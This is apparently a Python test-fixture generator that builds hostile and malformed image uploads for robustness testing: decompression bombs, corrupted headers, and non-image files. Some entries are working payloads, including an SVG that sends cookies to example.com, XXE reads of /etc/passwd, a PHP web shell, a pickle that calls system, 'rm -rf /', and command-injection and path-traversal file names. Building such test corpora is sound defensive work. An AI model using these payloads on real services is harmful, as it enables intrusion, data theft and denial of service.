"""Files that visitors may bring in place of a picture, and pictures that are odd, all made on the spot.

`bad_pictures()` has them all; they are the same in every run.
"""

import gzip
import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

import numpy as np
from PIL import Image, ImageDraw
from PIL.PngImagePlugin import PngInfo

ORIENTATION = 0x0112
SUFFIXES = {"PNG": ".png", "JPEG": ".jpg", "WEBP": ".webp", "GIF": ".gif", "BMP": ".bmp", "TIFF": ".tif"}
OTHERS = {  # what Pillow can write, and this project does not read
    "AVIF": ".avif",
    "ICO": ".ico",
    "PPM": ".ppm",
    "PCX": ".pcx",
    "TGA": ".tga",
    "JPEG2000": ".jp2",
    "SGI": ".sgi",
    "DDS": ".dds",
    "EPS": ".eps",
    "PDF": ".pdf",
    "IM": ".im",
    "ICNS": ".icns",
}


@dataclass(frozen=True)
class BadPicture:
    """kind: "truncated", "bomb" ... name: of the file, as the visitor would call it."""

    kind: str
    name: str
    data: bytes


def portrait(width: int = 96, height: int = 72) -> Image.Image:
    """Colours, noise and a round head: nothing that compresses to nothing."""
    rng = np.random.default_rng(width * 100_003 + height)
    picture = Image.fromarray(rng.integers(60, 200, (height, width, 3), dtype=np.uint8))
    ImageDraw.Draw(picture).ellipse((width // 4, height // 8, width * 3 // 4, height * 7 // 8), fill=(220, 180, 150))
    return picture


def encode(picture: Image.Image, format: str, **options) -> bytes:
    buffer = io.BytesIO()
    picture.save(buffer, format, **options)
    return buffer.getvalue()


def frames(count: int = 3) -> dict:
    """Options of `save` for an animation."""
    more = [portrait().transpose(Image.Transpose.ROTATE_180) for _ in range(count)]
    return {"save_all": True, "append_images": more}


@cache
def whole() -> dict[str, tuple[str, bytes]]:
    """Whole pictures of every kind: what it is -> (format, file). All but those in OTHERS can be read."""
    rgb = portrait()
    clear = rgb.copy()
    clear.putalpha(Image.linear_gradient("L").resize(rgb.size))
    indexed = rgb.quantize(32)
    deep = Image.fromarray(np.random.default_rng(0).integers(0, 65536, (72, 96), dtype=np.uint16))
    real = Image.fromarray(np.random.default_rng(0).normal(0, 1e30, (72, 96)).astype(np.float32))
    real.putpixel((0, 0), float("nan"))
    real.putpixel((1, 0), float("inf"))
    made = {
        "PNG": ("PNG", encode(rgb, "PNG")),
        "PNG with alpha": ("PNG", encode(clear, "PNG")),
        "PNG gray with alpha": ("PNG", encode(clear.convert("LA"), "PNG")),
        "PNG gray": ("PNG", encode(rgb.convert("L"), "PNG")),
        "PNG of 1 bit": ("PNG", encode(rgb.convert("1"), "PNG")),
        "PNG of 16 bits": ("PNG", encode(deep, "PNG")),
        "PNG with palette": ("PNG", encode(indexed, "PNG")),
        "PNG with clear palette": ("PNG", encode(indexed, "PNG", transparency=bytes(range(0, 256, 8)))),
        "PNG with colour key": ("PNG", encode(rgb, "PNG", transparency=(220, 180, 150))),
        "PNG animated": ("PNG", encode(rgb, "PNG", **frames())),
        "JPEG": ("JPEG", encode(rgb, "JPEG")),
        "JPEG progressive": ("JPEG", encode(rgb, "JPEG", progressive=True)),
        "JPEG gray": ("JPEG", encode(rgb.convert("L"), "JPEG")),
        "JPEG CMYK": ("JPEG", encode(rgb.convert("CMYK"), "JPEG")),
        "JPEG with restarts": ("JPEG", encode(rgb, "JPEG", restart_marker_rows=1, quality=1)),
        "JPEG of two pictures": ("JPEG", encode(rgb, "MPO", **frames(1))),
        "WEBP": ("WEBP", encode(rgb, "WEBP")),
        "WEBP lossless": ("WEBP", encode(clear, "WEBP", lossless=True)),
        "WEBP animated": ("WEBP", encode(rgb, "WEBP", **frames())),
        "GIF": ("GIF", encode(indexed, "GIF")),
        "GIF animated": ("GIF", encode(rgb, "GIF", **frames())),
        "GIF clear": ("GIF", encode(indexed, "GIF", transparency=3, interlace=1)),
        "BMP": ("BMP", encode(rgb, "BMP")),
        "BMP gray": ("BMP", encode(rgb.convert("L"), "BMP")),
        "BMP of 1 bit": ("BMP", encode(rgb.convert("1"), "BMP")),
        "BMP with alpha": ("BMP", encode(clear, "BMP")),
        "BMP with palette": ("BMP", encode(indexed, "BMP")),
        "TIFF": ("TIFF", encode(rgb, "TIFF")),
        "TIFF LZW": ("TIFF", encode(rgb, "TIFF", compression="tiff_lzw")),
        "TIFF deflated": ("TIFF", encode(clear, "TIFF", compression="tiff_adobe_deflate")),
        "TIFF JPEG": ("TIFF", encode(rgb, "TIFF", compression="jpeg")),
        "TIFF fax": ("TIFF", encode(rgb.convert("1"), "TIFF", compression="group4")),
        "TIFF packed": ("TIFF", encode(rgb.convert("L"), "TIFF", compression="packbits")),
        "TIFF CMYK": ("TIFF", encode(rgb.convert("CMYK"), "TIFF")),
        "TIFF LAB": ("TIFF", encode(rgb.convert("LAB"), "TIFF")),
        "TIFF of 16 bits": ("TIFF", encode(deep, "TIFF")),
        "TIFF of floats": ("TIFF", encode(real, "TIFF")),
        "TIFF of 32 bits": ("TIFF", encode(rgb.convert("I"), "TIFF")),
        "TIFF of pages": ("TIFF", encode(rgb, "TIFF", **frames())),
    }
    for format in OTHERS:
        square = rgb.resize((64, 64)).convert("RGBA" if format == "DDS" else "RGB")
        try:
            made[format] = format, encode(square, format)
        except (OSError, KeyError, ValueError):  # this Pillow was built without it
            continue
    return made


def truncated() -> Iterator[BadPicture]:
    for what, (format, data) in whole().items():
        for tenth in range(10):
            cut = data[: len(data) * tenth // 10]
            yield BadPicture("truncated", f"{what}, {tenth} tenths{(SUFFIXES | OTHERS)[format]}", cut)


def flipped(count: int = 12) -> Iterator[BadPicture]:
    """A few bytes are others: in the first half of these among the first 64, where the headers are."""
    for what, (format, data) in whole().items():
        rng = np.random.default_rng(zlib.crc32(what.encode()))
        for i in range(count):
            broken = bytearray(data)
            for _ in range(rng.integers(1, 6)):
                broken[rng.integers(min(len(data), 64) if i < count / 2 else len(data))] = rng.integers(256)
            yield BadPicture("flipped bytes", f"{what}, flipped {i}{(SUFFIXES | OTHERS)[format]}", bytes(broken))


def sizes() -> Iterator[BadPicture]:
    """Extreme shapes, all of them real pictures."""
    for size in [(30_000, 1), (1, 30_000), (40_000, 70), (70, 40_000), (1, 1), (1, 2), (3, 1), (2000, 16), (7, 7)]:
        for format, suffix in SUFFIXES.items():
            if format == "WEBP" and max(size) > 16_383:
                continue
            picture = Image.linear_gradient("L").resize(size)
            yield BadPicture("shape", f"{size[0]}x{size[1]}{suffix}", encode(picture, format))
    for size in [(1_000_000, 1), (1, 1_000_000), (49_000_000, 1), (7_000, 7_000), (1, 32_768), (65_536, 2)]:
        yield BadPicture("shape", f"{size[0]}x{size[1]}.png", encode(Image.new("1", size, 1), "PNG"))
    stripes = np.tile(np.arange(256, dtype=np.uint8), (6000, 27))
    yield BadPicture("shape", "41 megapixels.jpg", encode(Image.fromarray(stripes), "JPEG", quality=30))


def oddities() -> Iterator[BadPicture]:
    for what, (format, data) in whole().items():
        yield BadPicture("odd mode or format", f"{what}{(SUFFIXES | OTHERS)[format]}", data)
    for value in [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 255, 65_535]:
        exif = Image.Exif()
        exif[ORIENTATION] = value
        for format in ("JPEG", "PNG", "WEBP", "TIFF"):
            data = encode(portrait(), format, exif=exif)
            yield BadPicture("EXIF", f"turned {value}{SUFFIXES[format]}", data)
    for i, exif in enumerate(
        [b"", b"Exif\0\0", b"Exif\0\0garbage", b"MM\0*\xff\xff\xff\xff", b"\0" * 60_000, looping()]
    ):
        for format in ("JPEG", "PNG", "WEBP"):
            yield BadPicture("EXIF", f"broken EXIF {i}{SUFFIXES[format]}", encode(portrait(), format, exif=exif))
    # Suffixes lie.
    for format in SUFFIXES:
        for other in (*SUFFIXES, "AVIF"):
            if other != format:
                suffix = (SUFFIXES | OTHERS)[other]
                yield BadPicture("wrong suffix", f"{format} as{suffix}", whole()[format][1] + other.encode())


def looping() -> bytes:
    """An EXIF block whose directory points to itself."""
    entry = struct.pack(">HHII", 0x8769, 4, 1, 8)
    return b"Exif\0\0MM\0*" + struct.pack(">IH", 8, 1) + entry + struct.pack(">I", 8)


def metadata() -> Iterator[BadPicture]:
    text = PngInfo()
    for i in range(300):
        text.add_text(f"Comment{i}", "x" * 20_000)
    yield BadPicture("metadata", "six megabytes of text.png", encode(portrait(), "PNG", pnginfo=text))
    for size in (100_000, 2_000_000, 90_000_000):
        text = PngInfo()
        text.add_text("Comment", "x" * size, zip=True)
        yield BadPicture("metadata", f"{size} letters, zipped.png", encode(portrait(), "PNG", pnginfo=text))
        text = PngInfo()
        text.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>" * (size // 11), zip=True)
        yield BadPicture("metadata", f"{size} letters of XMP.png", encode(portrait(), "PNG", pnginfo=text))
    for profile in (b"", b"no profile", b"\0" * 1_000_000, b"\xff" * 128):
        for format in ("PNG", "JPEG", "WEBP", "TIFF"):
            data = encode(portrait(), format, icc_profile=profile)
            yield BadPicture("metadata", f"profile of {len(profile)}{SUFFIXES[format]}", data)
    jpeg = whole()["JPEG"][1]
    for marker in (b"\xff\xe1", b"\xff\xe2", b"\xff\xed", b"\xff\xfe"):
        block = marker + struct.pack(">H", 65_000) + b"ICC_PROFILE\0\x01\x01".ljust(64_998, b"x")
        yield BadPicture("metadata", f"{marker[1]} a hundred times.jpg", jpeg[:2] + block * 100 + jpeg[2:])
    yield BadPicture("metadata", "comment.jpg", encode(portrait(), "JPEG", comment=b"<script>alert(1)</script>" * 2000))
    yield BadPicture("metadata", "comment.gif", encode(portrait(), "GIF", comment=b"x" * 1_000_000))
    xmp = b"<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]><x>&b;</x>"
    for format in ("JPEG", "WEBP"):
        yield BadPicture("metadata", f"XMP with entities{SUFFIXES[format]}", encode(portrait(), format, xmp=xmp))
    for name in ("PNG", "JPEG", "GIF", "BMP", "TIFF", "WEBP"):
        data = whole()[name][1]
        yield BadPicture("metadata", f"{name} with a tail{SUFFIXES[name]}", data + b"A" * 500_000)
        yield BadPicture("metadata", f"{name} twice{SUFFIXES[name]}", data + data)
        yield BadPicture("metadata", f"{name} behind a blank{SUFFIXES[name]}", b" " + data)
        script = data + b"<script>alert(document.cookie)</script>"
        yield BadPicture("metadata", f"{name} with a script{SUFFIXES[name]}", script)


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG, with the right checksum."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, depth: int = 8, colour: int = 2, data: bytes = b"", before: bytes = b"") -> bytes:
    """A PNG whose header says what one likes. before: chunks ahead of the pixels."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + before + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def zeros(count: int) -> bytes:
    """`count` zeros, deflated."""
    packer = zlib.compressobj(9)
    step = bytes(1 << 20)
    parts = [packer.compress(step) for _ in range(count >> 20)]
    return b"".join([*parts, packer.compress(step[: count & ((1 << 20) - 1)]), packer.flush()])


def bombs() -> Iterator[BadPicture]:
    """Small files that would become large, and headers that promise what is not there."""
    largest = 2**31 - 1
    small, big = zeros(1_000), zeros(150_000_000)
    lies = [(0, 0), (0, 10), (10, 0), (largest, 1), (1, largest), (largest, largest), (2**32 - 1, 1)]
    lies += [(65_535, 65_535), (20_000, 20_000), (8_000, 8_000), (7_071, 7_071), (7_000, 7_000), (100, 100)]
    for width, height in lies:
        yield BadPicture("bomb", f"says {width}x{height}.png", png(width, height, data=small))
        yield BadPicture("bomb", f"is {width}x{height}.png", png(width, height, data=big))
    for depth, colour in [(0, 2), (3, 0), (255, 255), (16, 3), (1, 6), (8, 1), (8, 3)]:
        yield BadPicture("bomb", f"depth {depth}, colour {colour}.png", png(64, 64, depth, colour, small))
    packed = zeros(100_000_000)
    for kind in (b"zTXt", b"iTXt", b"iCCP"):
        head = {b"zTXt": b"a\0\0", b"iTXt": b"a\0\x01\0\0\0", b"iCCP": b"a\0\0"}[kind]
        for times in (1, 40):
            before = chunk(kind, head + packed) * times
            name = f"{times} {kind.decode()} of 100 MB.png"
            yield BadPicture("bomb", name, png(64, 64, data=zeros(64 * 193), before=before))
    yield BadPicture("bomb", "chunk of 2 GB.png", png(64, 64, before=struct.pack(">I", largest) + b"tEXt" + b"a\0b"))
    yield BadPicture("bomb", "a million chunks.png", png(64, 64, data=small, before=chunk(b"tEXt", b"a\0b") * 200_000))
    animated = chunk(b"acTL", struct.pack(">II", largest, 0))
    yield BadPicture("bomb", "two billion frames.png", png(64, 64, data=zeros(64 * 193), before=animated))

    for width, height in [(65_535, 65_535), (7_000, 7_000), (0, 0), (65_535, 1)]:
        gif = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
        image = b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x4c\x01\0"
        yield BadPicture("bomb", f"says {width}x{height}.gif", gif + image + b";")
        yield BadPicture("bomb", f"{width}x{height}, 10000 frames.gif", gif + image * 10_000 + b";")
    outside = b"GIF89a" + struct.pack("<HHBBB", 8, 8, 0, 0, 0) + b"," + struct.pack("<HHHHB", 60_000, 60_000, 5, 5, 0)
    yield BadPicture("bomb", "outside of itself.gif", outside + b"\x02\x02\x4c\x01\0;")

    for width, height in [(largest, 1), (1, largest), (-5, 5), (5, -5), (5, -largest), (20_000, 20_000), (0, 0)]:
        for bits, compression in [(24, 0), (8, 1), (4, 2), (16, 3), (24, 99)]:
            head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, bits, compression, 0, 0, 0, 0, 0)
            data = b"BM" + struct.pack("<IHHI", 54 + 9000, 0, 0, 54) + head + b"\xff\x01" * 4500
            yield BadPicture("bomb", f"says {width}x{height}, {bits} bits, {compression}.bmp", data)
    for head_size in (0, 12, 39, 2**31):
        data = b"BM" + struct.pack("<IHHI", 100, 0, 0, 54) + struct.pack("<I", head_size) + bytes(50)
        yield BadPicture("bomb", f"header of {head_size}.bmp", data)

    for width, height in [(largest, largest), (2**32 - 1, 1), (7_000, 7_000), (20_000, 20_000), (0, 0), (64, 64)]:
        for compression in (1, 5, 7, 8, 32_946, 50_000, 9):
            yield BadPicture(
                "bomb", f"says {width}x{height}, {compression}.tif", tiff(width, height, compression, zeros(64 * 64))
            )
    yield BadPicture("bomb", "100 MB in a strip.tif", tiff(7_000, 7_000, 8, packed))
    yield BadPicture("bomb", "150 MB in a strip of 64x64.tif", tiff(64, 64, 8, big))
    yield BadPicture("bomb", "next page is itself.tif", tiff(64, 64, 1, bytes(64 * 64), following=8))
    for count in (2**16, 2**31, 2**32 - 1):
        data = tiff(64, 64, 1, bytes(64 * 64), extra=(33_432, 2, count, 0))
        yield BadPicture("bomb", f"tag of {count}.tif", data)

    for width, height in [(16_383, 16_383), (7_000, 7_000), (1, 1), (8_000, 6_000)]:
        for kind in (b"VP8X", b"VP8L", b"VP8 "):
            yield BadPicture("bomb", f"says {width}x{height}, {kind.decode()}.webp", webp(width, height, kind))
    for width, height in [(65_535, 65_535), (7_000, 7_000), (0, 0), (65_535, 1)]:
        data = bytearray(whole()["JPEG"][1])
        at = data.index(b"\xff\xc0")
        data[at + 5 : at + 9] = struct.pack(">HH", height, width)
        yield BadPicture("bomb", f"says {width}x{height}.jpg", bytes(data))
    scans = whole()["JPEG progressive"][1]
    scan = scans[scans.index(b"\xff\xda") : scans.index(b"\xff\xda") + 30]
    yield BadPicture("bomb", "20,000 scans.jpg", scans[:-2] + scan * 20_000 + scans[-2:])

    archived = io.BytesIO()
    with zipfile.ZipFile(archived, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.png", bytes(100_000_000))
    for name in ("bomb.zip", "bomb.png"):
        yield BadPicture("bomb", name, archived.getvalue() + name.encode())
    yield BadPicture("bomb", "bomb.svgz", gzip.compress(bytes(50_000_000), mtime=0))


def tiff(width: int, height: int, compression: int, strip: bytes, following: int = 0, extra: tuple = ()) -> bytes:
    """A gray TIFF of one strip, whose header says what one likes."""
    tags = [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 8),
        (259, 3, 1, compression),
        (262, 3, 1, 1),
        (273, 4, 1, 400),
        (277, 3, 1, 1),
        (278, 4, 1, height),
        (279, 4, 1, len(strip)),
        *([extra] if extra else []),
    ]
    entries = b"".join(
        struct.pack("<HHI", tag, kind, count)
        + (struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value))
        for tag, kind, count, value in tags
    )
    head = b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + struct.pack("<I", following)
    return head.ljust(400, b"\0") + strip


def webp(width: int, height: int, kind: bytes) -> bytes:
    if kind == b"VP8X":
        body = b"\x02\0\0\0" + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    elif kind == b"VP8L":
        body = b"\x2f" + ((width - 1) | (height - 1) << 14).to_bytes(4, "little") + bytes(40)
    else:
        body = b"\x10\x02\0\x9d\x01\x2a" + struct.pack("<HH", width, height) + bytes(40)
    part = kind + struct.pack("<I", len(body)) + body
    return b"RIFF" + struct.pack("<I", 4 + len(part)) + b"WEBP" + part


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">'
    '<script>fetch("https://example.com/" + document.cookie)</script><image xlink:href="file:///etc/passwd"/></svg>'
)
HTML = "<!doctype html><html><body onload=alert(1)><script>alert(document.domain)</script></body></html>"
ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
)


def documents() -> Iterator[BadPicture]:
    """Files that are no pictures at all, under the names of pictures and under their own."""
    texts = {
        "svg": SVG.encode(),
        "html": HTML.encode(),
        "xxe.svg": ENTITIES.encode(),
        "svg in UTF-16": SVG.encode("utf-16"),
        "php": b"<?php system($_GET['c']); ?>",
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "pickle": b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x04true\x94\x85\x94R\x94.",
        "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9999 9999\n(/etc/passwd) (r) file\n",
        "elf": b"\x7fELF\x02\x01\x01" + bytes(200),
        "exe": b"MZ" + bytes(200),
        "json": b'{"a": ' * 500,
        "zeros": bytes(1_000_000),
        "one zero": b"\0",
        "line": b"\n",
        "mark": b"\xef\xbb\xbf",
        "ones": b"\xff" * 10_000,
        "noise": np.random.default_rng(0).bytes(50_000),
        "text": "kein Bild, 图片 🙂\u202e".encode(),
        "m3u8": b"#EXTM3U\n#EXTINF:10,\nfile:///etc/passwd\n",
        "mvg": b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/|ls)'\npop graphic-context",
        "wmf": b"\xd7\xcd\xc6\x9a\0\0" + bytes(100),
        "psd": b"8BPS\0\x01" + bytes(100),
        "fits": b"SIMPLE  =                    T".ljust(2880),
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "mp4": b"\0\0\0\x18ftypisom" + bytes(100),
        "heic": b"\0\0\0\x18ftypheic" + bytes(100),
    }
    for what, data in texts.items():
        for suffix in (".png", ".jpg", f".{what.split('.')[-1].split()[0]}"):
            yield BadPicture("no picture", what + suffix, data + suffix.encode() if len(data) > 1 else data)
    for format, magic in {
        "PNG": b"\x89PNG\r\n\x1a\n",
        "JPEG": b"\xff\xd8\xff\xe0",
        "GIF": b"GIF89a",
        "BMP": b"BM",
        "TIFF": b"II*\0",
        "WEBP": b"RIFF\x10\0\0\0WEBP",
    }.items():
        for tail in (b"", bytes(50), b"\xff" * 50, HTML.encode(), np.random.default_rng(1).bytes(2_000)):
            yield BadPicture("no picture", f"{format} and {len(tail)}{SUFFIXES[format]}", magic + tail)


NAMES = [
    "../../../../etc/passwd.png",
    "..\\..\\windows\\win.ini.png",
    "/etc/passwd",
    "....//....//etc/passwd.png",
    "%2e%2e%2fetc%2fpasswd.png",
    "..%c0%af..%c0%afetc.png",
    "a\0b.png",
    "a\nb.png",
    "a\r\nSet-Cookie: x=1.png",
    "\u202egnp.exe",
    "a\u0000.png",
    "🙂.png",
    "ｆｕｌｌ．ｐｎｇ",
    "é\u0301.png",
    "x" * 300 + ".png",
    "." * 200 + ".png",
    "x" * 255,
    ".png",
    "..",
    ".",
    "",
    " ",
    "-rf.png",
    "-",
    "~root.png",
    "$(touch pwned).png",
    "`id`.png",
    "a;ls|cat.png",
    "<script>alert(1)</script>.png",
    '"><img src=x onerror=alert(1)>.png',
    "{{7*7}}.png",
    "%s%n%x.png",
    "con.png",
    "nul",
    "a.png/../../b.png",
    "file:///etc/passwd",
    "http://127.0.0.1/a.png",
    "https://example.com/a.png",
    "data:image/png;base64,AAAA",
    "a.png ",
    "a.PNG",
    "a.png.exe",
    "a.tar.gz",
    ".htaccess",
    ".env",
    "checkpoints/../../sketch2face.safetensors",
    "\\\\server\\share\\a.png",
    "\ud800.png",
    "\x1b[31mred.png",
    "‮⁦evil⁩.png",
]


def names() -> Iterator[BadPicture]:
    """A good picture with the name of an attack. Each is a little different, so that no two files are alike."""
    for i, name in enumerate(NAMES):
        yield BadPicture("name", name, encode(portrait(96 + i, 72), "PNG"))


@cache
def bad_pictures() -> tuple[BadPicture, ...]:
    """All of them, made once; 60 MB."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # Pillow's, about what is written here on purpose
        families = (truncated, flipped, sizes, oddities, metadata, bombs, documents, names)
        return tuple(bad for family in families for bad in family())
